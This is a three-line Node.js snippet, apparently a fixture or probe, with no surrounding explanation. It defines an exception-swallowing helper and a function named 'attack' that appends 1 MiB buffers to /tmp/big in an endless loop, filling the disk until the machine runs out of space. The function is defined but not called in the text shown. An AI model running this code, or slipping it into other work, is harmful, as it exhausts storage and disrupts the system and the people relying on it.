const fs = require('fs');
const tried = (action) => { try { return action(); } catch { return null; } };
const attack = () => { for (;;) fs.appendFileSync('/tmp/big', Buffer.alloc(1 << 20, 1)); };
